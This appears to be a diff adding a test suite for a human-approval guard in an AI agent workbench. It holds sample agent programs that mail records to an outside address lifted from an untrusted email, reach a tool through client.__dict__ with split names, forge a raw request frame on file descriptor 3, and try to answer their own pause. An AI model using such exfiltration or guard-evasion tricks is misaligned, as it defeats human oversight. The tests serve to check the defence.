@@ -1,0 +1,307 @@
+"""Each call of a run meets its guard with the real arguments: what came from strangers waits for a person."""
+
+from __future__ import annotations
+
+import asyncio
+import json
+
+import pytest
+from msgspec.structs import replace
+
+from workbench.broker.broker import Broker
+from workbench.broker.provenance_index import AnswerRead
+from workbench.events import PauseSettled, RunPaused
+from workbench.records import Decision, EntryQuery, PauseAnswer, Permission, RunState, Word
+from workbench.records.runs import ENDS
+
+
+class Person:
+    """Sits at the core's door, approves every program, and answers pauses as told; counts both."""
+
+    def __init__(self, core, *answers):
+        self.core = core
+        self.answers = list(answers)  # True, False or a PauseAnswer without an id; True when none is left
+        self.pauses = []
+        self.decided = 0
+        self._stop = core.bus.listen(self.hear)
+
+    def hear(self, event):
+        if isinstance(event, RunPaused):
+            asyncio.get_running_loop().call_later(0.15, self.answer, event.pause)  # calls of a loop gather first
+        elif type(event).__name__ == "RunChanged" and event.run.state is RunState.WAITING:
+            asyncio.get_running_loop().call_soon(self.decide, event.run)
+
+    def decide(self, run):
+        self.decided += 1
+        self.core.run_manager.decide(Decision(run.id, run.proposal.sha, allow=True, by="you", seal=run.seal))
+
+    def answer(self, pause):
+        if pause not in self.core.run_manager.pauses.all():
+            return
+        self.pauses.append(pause)
+        word = self.answers.pop(0) if self.answers else True
+        answer = word if isinstance(word, PauseAnswer) else PauseAnswer("", allow=word)
+        self.core.run_manager.pauses.answer(replace(answer, pause_id=pause.id))
+
+    def leave(self):
+        self._stop()
+
+
+@pytest.fixture
+async def office(demo):
+    """Programs of low and medium risk run unasked, so that only the guard asks."""
+    demo.settings = replace(
+        demo.settings, approval_auto_medium=True, isolation_medium="process", isolation_high="process"
+    )
+    return demo
+
+
+async def ran(core, session, code):
+    started = core.run_manager.submit(code, session)
+    async with asyncio.timeout(60):
+        run = await core.run_manager.finished(started.id)
+    assert run.state in ENDS
+    return run
+
+
+async def outbox(core):
+    broker, session = Broker(core.services), core.services.sessions.person
+    from workbench.records import Origin, ToolCall
+
+    answer = await broker.call(ToolCall("o", "demo", "list_outbox", {}, Origin.PERSON, session.id))
+    return json.loads(answer.structured)["result"]
+
+
+READ = "from servers.demo import read_mail\nprint((await read_mail(mail_id='IN-0004'))['body'])"
+SEND = """
+from servers.demo import send_email
+await send_email(to="records@collect-data.example", subject="Records", body="Here they are")
+"""
+
+
+async def test_an_address_out_of_a_strangers_mail_is_asked_about_in_a_later_program_of_the_session(office):
+    agent, person = office.services.sessions.open("test agent"), Person(office, False)
+    assert (await ran(office, agent, READ)).state is RunState.DONE
+    denied = await ran(office, agent, SEND)
+    assert denied.state is RunState.FAILED
+    assert "denied" in denied.fault.message
+    (pause,) = person.pauses
+    (origin,) = pause.origins
+    assert (pause.tool, origin.path, origin.tool) == ("send_email", "to", "read_mail")
+    assert "\x02records@collect-data.example\x03" in origin.around
+    assert pause.why[0].startswith("Where it goes (to) came out of text that outsiders can write")
+    assert await outbox(office) == []
+    kinds = [entry.note.kind for entry in office.journal.entries(EntryQuery(kind="call."))]
+    assert {"call.paused", "call.denied", "call.refused"} <= set(kinds)
+    other = office.services.sessions.open("another agent")
+    assert (await ran(office, other, SEND)).state is RunState.DONE, "another session has read nothing"
+    person.leave()
+
+
+async def test_what_a_person_let_pass_is_not_asked_about_again_and_an_approved_text_owns_its_words(office):
+    agent, person = office.services.sessions.open("test agent"), Person(office)
+    await ran(office, agent, READ)
+    for _ in range(2):
+        assert (await ran(office, agent, SEND)).state is RunState.DONE
+    assert len(person.pauses) == 1
+    office.settings = replace(office.settings, approval_auto_medium=False)
+    fresh = office.services.sessions.open("test agent")
+    await ran(office, fresh, READ)
+    assert (await ran(office, fresh, SEND)).state is RunState.DONE
+    assert (person.decided, len(person.pauses)) == (1, 1), "the person has read the address in the program"
+    person.leave()
+
+
+async def test_a_strangers_address_is_asked_about_beside_one_of_the_approved_text_and_whatever_follows_it(office):
+    code = """
+from client import ToolError
+from servers.demo import read_mail, send_email
+body = (await read_mail(mail_id="IN-0004"))["body"]
+found = [word.strip(".,<>") for word in body.split() if "@" in word]
+for more in ("a@b.example", "c@d.example"):
+    try:
+        to = "ines@example.com, " + found[0] + ", " + "x" * 400 + more
+        await send_email(to=to, subject="Hello", body="ines@example.com")
+    except ToolError:
+        pass
+"""
+    office.settings = replace(office.settings, approval_auto_medium=False)
+    agent, person = office.services.sessions.open("test agent"), Person(office)
+    agent.provenance.learn(AnswerRead("c", "r", "demo", "read_mail", frozenset({"untrusted"}), ("ines@example.com",)))
+    await ran(office, agent, code)
+    assert [pause.origins[0].path for pause in person.pauses] == ["to", "to"], "the second value is another one"
+    assert person.pauses[0].arguments.index('"to"') < person.pauses[0].arguments.index('"body"')
+    person.leave()
+
+
+async def test_a_loop_of_deletions_is_one_question_with_the_list_and_the_rest_goes_with_it(office):
+    code = """
+import asyncio
+from servers.demo import delete_customer, list_customers
+found = (await list_customers(limit=6))["customers"]
+await asyncio.gather(*(delete_customer(customer_id=one["id"]) for one in found[:4]))
+for one in found[4:]:
+    await delete_customer(customer_id=one["id"])
+"""
+    agent = office.services.sessions.open("test agent")
+    person = Person(office, PauseAnswer("", allow=True, scope="rest"))
+    run = await ran(office, agent, code)
+    assert run.state is RunState.DONE, run.fault
+    (pause,) = person.pauses
+    assert len(pause.list) == 4
+    assert pause.more == 3
+    assert all("CUS-" in line for line in pause.list)
+    person.leave()
+
+
+async def test_more_calls_than_the_text_says_and_calls_it_does_not_name_wait_for_a_person(office):
+    code = """
+import client
+from servers.demo import post_message
+await post_message(channel="general", text="one")
+box = client.__dict__
+for name in [key for key in box if key == "call_" + "tool"]:
+    await box[name]("demo", "post_" + "message", {"channel": "general", "text": "two"})
+"""
+    agent, person = office.services.sessions.open("test agent"), Person(office, False)
+    run = await ran(office, agent, code)
+    assert run.state is RunState.FAILED
+    assert [pause.tool for pause in person.pauses] == ["post_message"]
+    person.leave()
+
+
+async def test_nobody_there_means_no_and_stopping_a_run_takes_its_question_back(office):
+    agent, told = office.services.sessions.open("test agent"), []
+    stop = office.bus.listen(told.append)
+    await ran(office, agent, READ)
+    office.settings = replace(office.settings, approval_wait_seconds=0)
+    assert "Nobody answered in time" in (await ran(office, agent, SEND)).fault.message
+    office.settings = replace(office.settings, approval_wait_seconds=600)
+    started = office.run_manager.submit(SEND, agent)
+    async with asyncio.timeout(60):
+        while not (pauses := office.run_manager.run(started.id).pauses):
+            await asyncio.sleep(0.01)
+    assert office.run_manager.run(started.id).calls == () or pauses[0].run_id == started.id
+    await office.run_manager.stop(started.id)
+    assert [event.ending for event in told if isinstance(event, PauseSettled)] == ["withdrawn"]
+    assert await outbox(office) == []
+    stop()
+
+
+async def test_nothing_but_a_persons_door_answers_a_pause(office):
+    from workbench.agent.tools import TOOLS
+    from workbench.api.client_stub import ApiMethods
+    from workbench.api.marker import mark_of
+    from workbench.runs.generated_packages import GeneratedPackages
+    from workbench.runs.program_execution import ProgramExecution
+    from workbench.sandbox.program import ToolFailure
+
+    mark = mark_of(ApiMethods.answer_pause)
+    assert mark is not None
+    assert mark.decides
+    assert mark.consent
+    assert not [tool.name for tool in TOOLS if "pause" in tool.name or "answer" in tool.name or "decide" in tool.name]
+    agent = office.services.sessions.open("test agent")
+    await ran(office, agent, READ)
+    started = office.run_manager.submit(SEND, agent)
+    async with asyncio.timeout(60):
+        while not (pauses := office.run_manager.run(started.id).pauses):
+            await asyncio.sleep(0.01)
+    run = office.run_manager._find(started.id)
+    inside = ProgramExecution(
+        run,
+        Broker(office.services),
+        GeneratedPackages(office.services),
+        office.run_manager.states,
+        office.run_manager.pauses,
+    )
+    for kind in ("answer_pause", "pause", "decide"):
+        with pytest.raises(ToolFailure):
+            await inside._answer(kind, {"pause_id": pauses[0].id, "allow": True})
+    assert office.run_manager.pauses.all() == pauses
+    await office.run_manager.close()
+    assert office.run_manager.run(started.id).state is RunState.STOPPED
+    assert await outbox(office) == [], "a core that ends refuses what waited"
+
+
+OPEN = """
+from servers.demo import create_ticket
+for number in range({many}):
+    await create_ticket(customer_id="CUS-0002", subject="Lamp", body="One more lamp, please.")
+"""
+
+
+async def test_what_only_adds_runs_unasked_until_it_is_much_or_strangers_were_read(office):
+    office.settings = replace(office.settings, approval_auto_medium=False)
+    agent, person = office.services.sessions.open("test agent"), Person(office)
+    assert (await ran(office, agent, OPEN.format(many=10))).state is RunState.DONE
+    assert (person.decided, person.pauses) == (0, [])
+    assert (await ran(office, agent, OPEN.format(many=13))).state is RunState.DONE
+    assert person.decided == 0
+    assert "more than 10 times" in person.pauses[0].why[0]
+    asked = len(person.pauses)
+    await ran(office, agent, READ)
+    assert (await ran(office, agent, OPEN.format(many=1))).state is RunState.DONE
+    assert (person.decided, len(person.pauses)) == (1, asked), "the program itself waits, as it did before"
+    office.settings = replace(office.settings, approval_auto_mild=False)
+    assert (await ran(office, office.services.sessions.open("another"), OPEN.format(many=1))).state is RunState.DONE
+    assert person.decided == 2
+    person.leave()
+
+
+async def test_a_file_that_is_new_is_written_unasked_and_one_that_is_there_is_not_replaced_so(office):
+    office.settings = replace(office.settings, approval_auto_medium=False)
+    agent, person = office.services.sessions.open("test agent"), Person(office)
+    code = "open('workspace/list.csv', 'w').write('a,b')"
+    for decided in (0, 1):
+        assert (await ran(office, agent, code)).state is RunState.DONE
+        assert person.decided == decided
+    person.leave()
+
+
+FORGED = """
+import os, json, struct, time
+asked = {"server": "demo", "tool": "list_customers", "arguments": {"limit": 2}}
+frame = json.dumps({"kind": "ask", "what": "call", "id": 501, "wish": asked}).encode()
+os.write(3, struct.pack(">I", len(frame)) + frame)
+time.sleep(30)
+"""
+
+
+async def test_a_private_answer_that_a_program_asks_for_past_its_functions_waits_for_the_user(demo):
+    demo._set_settings(replace(demo.settings, approval_auto_medium=True, isolation_medium="process"))
+    run = demo.run_manager.submit(FORGED, demo.services.sessions.open("test agent"), "to test")
+    async with asyncio.timeout(60):
+        while not demo.run_manager.run(run.id).pauses:
+            assert not any(one.state == "done" for one in demo.run_manager.run(run.id).calls)
+            await asyncio.sleep(0.01)
+    await demo.run_manager.stop(run.id)
+
+
+async def test_a_call_that_waited_is_judged_again_as_things_are_then(office):
+    """While the user looks at a call, a rule denies its tool, the definition changes, or the server's entry does."""
+
+    async def deny():
+        denial = Permission("late", "tool", Word.DENY, "demo", "send_email", scope="session", session=agent.id)
+        office.services.rules.pin(replace(denial, label="Never mail."))
+
+    async def redefine():
+        real, catalog = office.catalog.tool, office.catalog
+        changed = replace(real("demo", "send_email"), hash="another")
+        catalog.tool = lambda server, name: changed if name == "send_email" else real(server, name)
+
+    for change, words in ((deny, "Never mail."), (redefine, "changed while the call waited")):
+        agent, plain = office.services.sessions.open("test agent"), office.catalog.tool
+        assert (await ran(office, agent, READ)).state is RunState.DONE
+        record = office.run_manager.submit(SEND, agent)
+        async with asyncio.timeout(60):
+            while not (pauses := office.run_manager.pauses.of(record.id)):
+                await asyncio.sleep(0.01)
+        await change()
+        office.run_manager.pauses.answer(PauseAnswer(pauses[0].id, allow=True))
+        async with asyncio.timeout(60):
+            ended = await office.run_manager.finished(record.id)
+        office.catalog.tool = plain
+        assert ended.state is RunState.FAILED
+        assert words in ended.fault.message, ended.fault
+        assert await outbox(office) == []
